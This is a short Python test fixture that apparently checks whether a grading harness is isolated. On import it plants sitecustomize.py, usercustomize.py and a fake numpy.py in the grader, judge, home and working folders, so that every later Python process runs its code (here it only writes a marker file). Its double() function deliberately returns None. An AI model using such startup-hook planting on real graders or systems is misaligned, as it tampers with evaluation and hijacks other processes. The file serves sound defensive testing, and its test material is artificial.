"""Leaves code that every later Python process would run when it starts."""

TEXT = "open('@GROUND@/ran', 'w').write('@NAME@')\n"

for folder in ("@GRADER@/site", "@JUDGE_FOLDER@", "@HOME@", "."):
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py"):
        try:
            open(f"{folder}/{name}", "w").write(TEXT)
        except OSError:
            pass


def double(x):
    return None
